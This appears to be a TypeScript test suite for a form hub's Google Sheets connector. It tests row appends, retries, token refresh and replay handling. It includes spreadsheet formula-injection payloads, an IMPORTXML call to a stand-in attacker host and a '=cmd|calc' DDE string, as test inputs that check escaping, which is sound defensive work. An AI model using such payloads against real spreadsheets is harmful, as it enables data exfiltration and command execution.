import { runPlugin, sampleEvent } from '@formhub/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import GoogleSheetsPlugin, {
  type GoogleSheetsConfig,
} from '../../connectors/google-sheets/index.ts';
import { columnLetters, quoteSheetName } from '../../connectors/google-sheets/a1.ts';
import { cellValue, rowFor } from '../../connectors/google-sheets/cells.ts';
import { expectError, fieldsOf } from '../support/api.ts';
import {
  deliveryIn,
  listDeliveries,
  settledDeliveries,
  type Delivery,
} from '../support/deliveries.ts';
import { startFakeNango, type FakeNango } from '../support/fakes/nango.ts';
import { startFakeSheets, type FakeSheets } from '../support/fakes/sheets.ts';
import { startHub, type TestHub } from '../support/hub.ts';
import { eventually } from '../support/receiver.ts';

const TAB = 'Form answers';
const COLUMNS = [
  { header: 'Response', field: 'id' },
  { header: 'Submitted', field: 'submitted_at' },
  { header: 'Full name', field: 'full_name' },
  { header: 'Email', field: 'email' },
  { header: 'Topics', field: 'topics' },
  { header: 'Subscribed', field: 'subscribed' },
  { header: 'Age', field: 'age' },
  { header: 'Note', field: 'note' },
];
const HEADERS = COLUMNS.map((c) => c.header);

interface Integration {
  id: string;
  config: Record<string, unknown>;
}

describe('google-sheets connector (hub, worker, fake Sheets API and fake Nango)', () => {
  let hub: TestHub;
  let key: string;
  let google: FakeSheets;
  let nango: FakeNango;
  let sequence = 0;

  beforeAll(async () => {
    google = await startFakeSheets();
    nango = await startFakeNango();
    hub = await startHub(
      {
        WEBHOOK_ALLOW_PRIVATE_TARGETS: 'true',
        WEBHOOK_RETRY_SCHEDULE: '100ms,200ms',
        WEBHOOK_TIMEOUT_MS: '3000',
        GOOGLE_API_ROOT_URL: google.url,
        NANGO_HOST: nango.url,
        NANGO_SECRET_KEY: nango.secretKey,
      },
      { worker: true },
    );
    key = (await hub.workspace()).key;
  });
  afterAll(async () => {
    await hub?.close();
    await google?.close();
    await nango?.close();
  });

  /** A published form with a calculated field, one spreadsheet and one Nango connection of its own. */
  async function setup(options: { columns?: typeof COLUMNS; token?: string } = {}) {
    sequence += 1;
    const spreadsheetId = `sheet-${sequence}-${Date.now()}`;
    const connectionId = `conn-${sequence}`;
    const token = options.token ?? `ya29.token-${sequence}`;
    google.addSpreadsheet(spreadsheetId, [TAB, 'Other']);
    google.acceptToken(token);
    nango.setConnection(connectionId, {
      providerConfigKey: 'google-sheets',
      provider: 'google-sheet',
      accessToken: token,
    });
    const form = await hub.request({
      method: 'POST',
      url: '/api/v2/forms',
      key,
      payload: {
        title: `Sheets ${sequence}`,
        status: 'published',
        fields: [
          { key: 'first', type: 'text' },
          { key: 'last', type: 'text' },
          { key: 'email', type: 'email' },
          { key: 'topics', type: 'multiselect', options: ['billing', 'bugs', 'ideas'] },
          { key: 'subscribed', type: 'boolean' },
          { key: 'age', type: 'integer' },
          { key: 'note', type: 'text' },
        ],
        calculated_fields: [
          { key: 'full_name', logic: { cat: [{ var: 'data.first' }, ' ', { var: 'data.last' }] } },
        ],
      },
    });
    expect(form.statusCode, form.body).toBe(201);
    const formId = (form.json() as { id: string }).id;
    const created = await hub.request({
      method: 'POST',
      url: `/api/v2/forms/${formId}/integrations`,
      key,
      payload: {
        connector: 'google-sheets',
        connection_id: connectionId,
        config: { spreadsheet_id: spreadsheetId, sheet: TAB, columns: options.columns ?? COLUMNS },
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const integration = created.json() as Integration;
    const submit = async (data: Record<string, unknown>) => {
      const res = await hub.request({
        method: 'POST',
        url: `/api/v2/forms/${formId}/responses`,
        payload: { data },
      });
      expect(res.statusCode, res.body).toBe(201);
      return res.json() as { id: string; submitted_at: string };
    };
    const callsOf = () => google.requests.filter((r) => r.spreadsheetId === spreadsheetId);
    return { spreadsheetId, connectionId, token, formId, integration, submit, callsOf };
  }

  const settled = (integrationId: string, count = 1) =>
    settledDeliveries(hub, key, integrationId, count, 'integrations');

  it('is listed with its config schema; a bad config is refused with 422 naming the field', async () => {
    const res = await hub.request({ method: 'GET', url: '/api/v2/connectors', key });
    const sheets = (
      res.json() as { data: { id: string; config_schema: Record<string, unknown> }[] }
    ).data.find((c) => c.id === 'google-sheets');
    expect(sheets?.config_schema).toMatchObject({
      required: ['spreadsheet_id', 'columns'],
      properties: {
        sheet: { default: 'Sheet1' },
        columns: { minItems: 1 },
        token: { writeOnly: true },
      },
    });
    const { formId } = await setup();
    const bad = await hub.request({
      method: 'POST',
      url: `/api/v2/forms/${formId}/integrations`,
      key,
      payload: { connector: 'google-sheets', config: { spreadsheet_id: 'x', columns: [] } },
    });
    expect(fieldsOf(expectError(bad, 422, 'validation_failed'))).toContain('config.columns');
  });

  it('first response writes the header and a row (token from Nango), the second appends one row', async () => {
    const { spreadsheetId, token, integration, submit, callsOf } = await setup();
    const first = await submit({
      first: 'Ada',
      last: 'Lovelace',
      email: 'ada@example.com',
      topics: ['billing', 'ideas'],
      subscribed: true,
      age: 36,
    });
    const [one] = await settled(integration.id);
    expect(one).toMatchObject({
      status: 'succeeded',
      attempts: [{ number: 1, status_code: 200, error: null }],
    });
    // The Google calls go through the hub's client, so the attempt log shows the append's answer.
    expect(one!.attempts[0]!.response_excerpt).toContain(`"updatedRange":"'Form answers'!A2:H2"`);

    expect(google.shown(spreadsheetId, TAB)).toEqual([
      HEADERS,
      [
        first.id,
        first.submitted_at,
        'Ada Lovelace',
        'ada@example.com',
        'billing, ideas',
        'TRUE',
        '36',
      ],
    ]);
    const sent = callsOf().find((c) => c.kind === 'append')!;
    expect(sent.headers.authorization).toBe(`Bearer ${token}`);
    expect(sent.range).toBe(`'Form answers'!A1`);
    expect(sent.query).toMatchObject({
      valueInputOption: 'USER_ENTERED',
      insertDataOption: 'INSERT_ROWS',
    });
    // Numbers keep their type; missing answers are empty cells.
    expect(sent.body).toEqual({
      majorDimension: 'ROWS',
      values: [
        [
          first.id,
          first.submitted_at,
          'Ada Lovelace',
          'ada@example.com',
          'billing, ideas',
          'TRUE',
          36,
          '',
        ],
      ],
    });
    expect(callsOf().map((c) => c.kind)).toEqual(['get', 'update', 'append']);
    expect(nango.requests.at(-1)).toMatchObject({
      path: `/connections/conn-${sequence}`,
      query: { provider_config_key: 'google-sheets' },
    });

    const second = await submit({
      first: 'Grace',
      last: 'Hopper',
      subscribed: false,
      note: 'hello',
    });
    await settled(integration.id, 2);
    const rows = google.shown(spreadsheetId, TAB);
    expect(rows).toHaveLength(3);
    expect(rows[2]).toEqual([
      second.id,
      second.submitted_at,
      'Grace Hopper',
      '',
      '',
      'FALSE',
      '',
      'hello',
    ]);
    expect(callsOf().map((c) => c.kind)).toEqual(['get', 'update', 'append', 'get', 'append']);
  });

  it('neutralises answers that Sheets would evaluate as formulas', async () => {
    const { spreadsheetId, integration, submit } = await setup();
    const evil = [
      '=IMPORTXML("http://evil.example/x","//a")',
      '+1 (555) 0100',
      '-2+3',
      '@SUM(A1)',
      "'quoted",
    ];
    await submit({ first: evil[0], last: 'x', email: 'a@b.co', note: evil[4], topics: ['bugs'] });
    await submit({ first: evil[1], last: evil[2], note: evil[3] });
    await settled(integration.id, 2);
    const cells = google.cells(spreadsheetId, TAB).flat();
    expect(cells.filter((c) => c.formula)).toEqual([]);
    const shown = google.shown(spreadsheetId, TAB).flat();
    expect(shown).toEqual(
      expect.arrayContaining([`${evil[0]} x`, `${evil[1]} ${evil[2]}`, evil[3], evil[4]]),
    );
    expect(cells.map((c) => c.entered)).toEqual(
      expect.arrayContaining([`'${evil[0]} x`, `'${evil[3]}`, `''quoted`]),
    );
  });

  it('an unknown spreadsheet is dead after one attempt, with Google’s message in the attempt log', async () => {
    const { integration, submit } = await setup();
    await hub.request({
      method: 'PATCH',
      url: `/api/v2/integrations/${integration.id}`,
      key,
      payload: { config: { spreadsheet_id: 'no-such-spreadsheet' } },
    });
    await submit({ first: 'Nobody' });
    const [delivery] = await settled(integration.id);
    expect(delivery!.status).toBe('dead');
    expect(delivery!.attempts).toHaveLength(1);
    expect(delivery!.attempts[0]).toMatchObject({ status_code: 404 });
    expect(delivery!.attempts[0]!.error).toContain('Requested entity was not found.');
    expect(delivery!.attempts[0]!.response_excerpt).toContain('"status":"NOT_FOUND"');
  });

  it('an unknown tab is dead at once with Google’s 400 message', async () => {
    const { integration, submit } = await setup();
    await hub.request({
      method: 'PATCH',
      url: `/api/v2/integrations/${integration.id}`,
      key,
      payload: { config: { sheet: 'Nope' } },
    });
    await submit({ first: 'Nobody' });
    const [delivery] = await settled(integration.id);
    expect(delivery).toMatchObject({ status: 'dead', attempts: [{ status_code: 400 }] });
    expect(delivery!.attempts[0]!.error).toContain(`Unable to parse range: 'Nope'!1:1`);
  });

  it('a 500 is retried by the delivery engine (not by the client), then one row', async () => {
    const { spreadsheetId, integration, submit, callsOf } = await setup();
    google.fail({ status: 500, kind: 'append' });
    await submit({ first: 'Retry', last: 'Me' });
    const [delivery] = await settled(integration.id);
    expect(delivery!.status).toBe('succeeded');
    expect(delivery!.attempts.map((a) => a.status_code)).toEqual([500, 200]);
    expect(delivery!.attempts[0]!.error).toContain('injected failure 500');
    expect(callsOf().filter((c) => c.kind === 'append')).toHaveLength(2);
    expect(google.shown(spreadsheetId, TAB)).toHaveLength(2);
  });

  it('a retry after a write whose answer was lost does not append the row twice', async () => {
    const { spreadsheetId, integration, submit, callsOf } = await setup();
    await submit({ first: 'Before' });
    await settled(integration.id);
    google.fail({ status: 503, kind: 'append', afterApplying: true });
    const response = await submit({ first: 'Lost', last: 'Answer' });
    const deliveries = await settled(integration.id, 2);
    expect(deliveries[1]!.attempts.map((a) => a.status_code)).toEqual([503, 200]);
    const ids = google.shown(spreadsheetId, TAB).map((row) => row[0]);
    expect(ids.filter((id) => id === response.id)).toHaveLength(1);
    // The retry read the id column (found by its header, column A) instead of appending.
    const retry = callsOf().slice(-2);
    expect(retry.map((c) => [c.kind, c.range, c.query.majorDimension])).toEqual([
      ['get', `'Form answers'!1:1`, 'ROWS'],
      ['get', `'Form answers'!A2:A4001`, 'COLUMNS'],
    ]);
  });

  it('the id check pages through a long id column', async () => {
    const { spreadsheetId, integration, submit, callsOf } = await setup();
    const filler = Array.from({ length: 4_500 }, (_, i) => [
      `00000000-0000-7000-8000-${String(i).padStart(12, '0')}`,
      'x',
    ]);
    google.seed(spreadsheetId, TAB, [HEADERS, ...filler]);
    google.fail({ status: 500, kind: 'append', afterApplying: true });
    const response = await submit({ first: 'Deep' });
    const [delivery] = await settled(integration.id);
    expect(delivery!.attempts.map((a) => a.status_code)).toEqual([500, 200]);
    const ids = google.shown(spreadsheetId, TAB).map((row) => row[0]);
    expect(ids).toHaveLength(4_502);
    expect(ids.filter((id) => id === response.id)).toHaveLength(1);
    expect(
      callsOf()
        .filter((c) => c.query.majorDimension === 'COLUMNS')
        .map((c) => c.range),
    ).toEqual([`'Form answers'!A2:A4001`, `'Form answers'!A4002:A8001`]);
  });

  it('a call that outlasts the attempt timeout is retried', async () => {
    const { spreadsheetId, integration, submit } = await setup();
    google.fail({ kind: 'get', delayMs: 4_000 });
    await submit({ first: 'Patience' });
    const [delivery] = await settled(integration.id);
    expect(delivery!.status).toBe('succeeded');
    expect(delivery!.attempts.map((a) => a.status_code)).toEqual([0, 200]);
    expect(delivery!.attempts[0]!.error).toContain('no answer within 3000 ms');
    expect(google.shown(spreadsheetId, TAB)).toHaveLength(2);
  });

  it('a 429 is retried, honouring Retry-After', async () => {
    const { spreadsheetId, integration, submit } = await setup();
    google.fail({ status: 429, kind: 'get', headers: { 'retry-after': '1' } });
    await submit({ first: 'Slow' });
    const [delivery] = await settled(integration.id);
    expect(delivery!.attempts.map((a) => a.status_code)).toEqual([429, 200]);
    const gap = Date.parse(delivery!.attempts[1]!.at) - Date.parse(delivery!.attempts[0]!.at);
    expect(gap).toBeGreaterThanOrEqual(900);
    expect(google.shown(spreadsheetId, TAB)).toHaveLength(2);
  });

  it('a 401 with an expired Nango token refreshes through Nango and appends in the same attempt', async () => {
    const { spreadsheetId, connectionId, token, integration, submit, callsOf } = await setup({
      token: 'ya29.expired',
    });
    google.revokeToken(token);
    google.acceptToken('ya29.expired-r1');
    await submit({ first: 'Fresh', last: 'Token' });
    const [delivery] = await settled(integration.id);
    expect(delivery).toMatchObject({
      status: 'succeeded',
      attempts: [{ number: 1, status_code: 200, error: null }],
    });
    expect(nango.refreshes(connectionId)).toBe(1);
    expect(
      nango.requests
        .filter((r) => r.path === `/connections/${connectionId}`)
        .map((r) => r.query.force_refresh),
    ).toEqual(['false', 'false', 'true']); // the owner check at create, the attempt, its refresh
    expect(callsOf().map((c) => [c.kind, c.headers.authorization])).toEqual([
      ['get', 'Bearer ya29.expired'],
      ['get', 'Bearer ya29.expired-r1'],
      ['update', 'Bearer ya29.expired-r1'],
      ['append', 'Bearer ya29.expired-r1'],
    ]);
    expect(google.shown(spreadsheetId, TAB)).toHaveLength(2);
  });

  it('a token Nango cannot renew is dead after one attempt with one refresh', async () => {
    const { connectionId, token, integration, submit } = await setup({ token: 'ya29.revoked' });
    google.revokeToken(token);
    await submit({ first: 'Locked out' });
    const [delivery] = await settled(integration.id);
    expect(delivery).toMatchObject({ status: 'dead', attempts: [{ status_code: 401 }] });
    expect(delivery!.attempts[0]!.error).toContain('401');
    expect(nango.refreshes(connectionId)).toBe(1);
  });

  it('replaying a succeeded delivery does not add a second row when `id` is mapped', async () => {
    const { spreadsheetId, integration, submit, callsOf } = await setup();
    await submit({ first: 'Once' });
    const [delivery] = await settled(integration.id);
    const before = callsOf().length;
    const replay = await hub.request({
      method: 'POST',
      url: `/api/v2/deliveries/${delivery!.id}/replay`,
      key,
    });
    expect(replay.statusCode, replay.body).toBe(202);
    const replayed = await eventually(async () => {
      const d = await deliveryIn(hub, key, delivery!.id, 'succeeded');
      return d.attempts.length === 2 ? d : undefined;
    });
    expect(replayed.attempts[1]).toMatchObject({ number: 2, manual: true, error: null });
    expect(google.shown(spreadsheetId, TAB)).toHaveLength(2);
    expect(
      callsOf()
        .slice(before)
        .map((c) => c.kind),
    ).toEqual(['get', 'get']);
  });

  it('without `id` mapped a replay appends again (documented: nothing to recognise the row by)', async () => {
    const columns = COLUMNS.filter((c) => c.field !== 'id');
    const { spreadsheetId, integration, submit } = await setup({ columns });
    await submit({ first: 'Twice' });
    const [delivery] = await settled(integration.id);
    await hub.request({ method: 'POST', url: `/api/v2/deliveries/${delivery!.id}/replay`, key });
    await eventually(async () => {
      const [d] = await listDeliveries(hub, key, integration.id, 'integrations');
      return d?.status === 'succeeded' && d.attempts.length === 2 ? d : undefined;
    });
    expect(google.shown(spreadsheetId, TAB)).toHaveLength(3);
  });

  it('the integration test event reads the header row and writes nothing', async () => {
    const { spreadsheetId, integration, callsOf } = await setup();
    const res = await hub.request({
      method: 'POST',
      url: `/api/v2/integrations/${integration.id}/test`,
      key,
    });
    expect(res.statusCode, res.body).toBe(202);
    const delivery = await deliveryIn(hub, key, (res.json() as Delivery).id, 'succeeded');
    expect(delivery.event).toBe('ping');
    expect(callsOf().map((c) => c.kind)).toEqual(['get']);
    expect(google.shown(spreadsheetId, TAB)).toEqual([]);
  });
});

describe('google-sheets connector in the SDK harness', () => {
  let google: FakeSheets;
  beforeAll(async () => {
    google = await startFakeSheets({ tokens: ['ya29.harness'] });
    google.addSpreadsheet('harness', ["Bob's answers"]);
  });
  afterAll(() => google?.close());

  const config: GoogleSheetsConfig = {
    spreadsheet_id: 'harness',
    sheet: "Bob's answers",
    columns: [
      { header: 'Name', field: 'name' },
      { header: 'Department', field: 'department' },
    ],
  };

  it('appends through runPlugin against the fake, with a quoted tab name', async () => {
    const result = await runPlugin(new GoogleSheetsPlugin(), {
      config,
      credentials: { accessToken: 'ya29.harness' },
      settings: { GOOGLE_API_ROOT_URL: google.url },
      event: sampleEvent({ data: { name: '=cmd|calc', department: 'IT' } }),
    });
    expect(result.error).toBeUndefined();
    expect(result.ok).toBe(true);
    expect(google.shown('harness', "Bob's answers")).toEqual([
      ['Name', 'Department'],
      ['=cmd|calc', 'IT'],
    ]);
    expect(google.requests.at(-1)?.range).toBe(`'Bob''s answers'!A1`);
    expect(result.logs.map((l) => l.message)).toContain('row appended');
  });

  it('keeps the path of a GOOGLE_API_ROOT_URL that has one (e.g. behind a proxy)', async () => {
    const prefixed = await startFakeSheets({ tokens: ['ya29.harness'], basePath: '/google' });
    try {
      prefixed.addSpreadsheet('harness', ["Bob's answers"]);
      expect(prefixed.url).toMatch(/\/google\/$/);
      const result = await runPlugin(new GoogleSheetsPlugin(), {
        config,
        credentials: { accessToken: 'ya29.harness' },
        settings: { GOOGLE_API_ROOT_URL: prefixed.url },
      });
      expect(result.error).toBeUndefined();
      expect(prefixed.shown('harness', "Bob's answers")).toHaveLength(2);
    } finally {
      await prefixed.close();
    }
  });

  it('maps Google’s answers onto the SDK errors', async () => {
    const run = (overrides: Partial<GoogleSheetsConfig>, accessToken = 'ya29.harness') =>
      runPlugin(new GoogleSheetsPlugin(), {
        config: { ...config, ...overrides },
        credentials: { accessToken },
        settings: { GOOGLE_API_ROOT_URL: google.url },
      });
    const missing = await run({ spreadsheet_id: 'missing' });
    expect(missing.error).toMatchObject({ name: 'PermanentError', statusCode: 404 });
    expect(missing.error?.message).toContain('Requested entity was not found.');
    const unauthorized = await run({}, 'ya29.wrong');
    expect(unauthorized.error).toMatchObject({ name: 'PermanentError', statusCode: 401 });
    google.fail({ status: 503, headers: { 'retry-after': '7' } });
    expect((await run({})).error).toMatchObject({
      name: 'RetryableError',
      statusCode: 503,
      retryAfterMs: 7000,
    });
    const refused = await runPlugin(new GoogleSheetsPlugin(), {
      config,
      credentials: { accessToken: 'ya29.harness' },
      settings: { GOOGLE_API_ROOT_URL: 'http://127.0.0.1:9/' },
    });
    expect(refused.error).toMatchObject({ name: 'RetryableError' });
    expect(refused.error?.message).toContain('Google Sheets did not answer');
    const none = await runPlugin(new GoogleSheetsPlugin(), {
      config,
      settings: { GOOGLE_API_ROOT_URL: google.url },
    });
    expect(none.error).toMatchObject({ name: 'PermanentError' });
  });

  it('refreshes once on a 401 and retries within the run', async () => {
    google.acceptToken('ya29.renewed');
    const result = await runPlugin(new GoogleSheetsPlugin(), {
      config,
      credentials: { accessToken: 'ya29.stale' },
      refreshCredentials: async () => ({ accessToken: 'ya29.renewed' }),
      settings: { GOOGLE_API_ROOT_URL: google.url },
    });
    expect(result.ok).toBe(true);
    expect(google.requests.at(-1)?.headers.authorization).toBe('Bearer ya29.renewed');
  });
});

describe('google-sheets cells and ranges', () => {
  it('formats answers as cells', () => {
    expect(
      rowFor(
        [
          { header: 'a', field: 'a' },
          { header: 'b', field: 'missing' },
        ],
        { a: null },
      ),
    ).toEqual(['', '']);
    expect([true, false, 3.5, Number.NaN, ['x', 'y'], { k: 1 }, '-1'].map(cellValue)).toEqual([
      'TRUE',
      'FALSE',
      3.5,
      '',
      'x, y',
      '{"k":1}',
      "'-1",
    ]);
    expect(cellValue(['=a', 'b'])).toBe("'=a, b");
    expect(cellValue('\tx')).toBe("'\tx");
    expect(cellValue('a=b')).toBe('a=b');
  });

  it('writes A1 notation', () => {
    expect([0, 25, 26, 51, 52, 701, 702].map(columnLetters)).toEqual([
      'A',
      'Z',
      'AA',
      'AZ',
      'BA',
      'ZZ',
      'AAA',
    ]);
    expect(quoteSheetName("It's")).toBe("'It''s'");
  });
});
